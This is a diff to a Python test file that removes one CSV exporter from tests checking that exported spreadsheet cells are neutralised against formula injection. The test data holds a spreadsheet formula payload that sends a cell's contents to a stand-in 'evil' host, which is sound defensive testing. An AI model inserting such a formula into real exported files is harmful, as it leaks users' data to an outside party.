@@ -10,7 +10,7 @@ from datetime import UTC, datetime
 
 import pytest
 
-from gateway.commands.shared.new_records import Item, commander_csv, new_record, web_vault_csv
+from gateway.commands.shared.new_records import Item, new_record, web_vault_csv
 from gateway.commands.shared.output import note, warn
 from gateway.errors import Failed
 from gateway.host.report import Report, Stderr
@@ -46,7 +46,7 @@ def test_a_spreadsheet_is_given_no_formula(text: str) -> None:
     assert cell(text).startswith("'")
 
 
-@pytest.mark.parametrize("form", [web_vault_csv, commander_csv])
+@pytest.mark.parametrize("form", [web_vault_csv])
 def test_a_file_of_records_holds_no_formula(form: object) -> None:
     item = Item("application_object_id", "0" * 8, '=HYPERLINK("http://evil/?"&A1)\x1b', "tenant", datetime.now(UTC))
     rows = list(csv.reader(io.StringIO(form([new_record(item)], "-folder"))))  # type: ignore[operator]
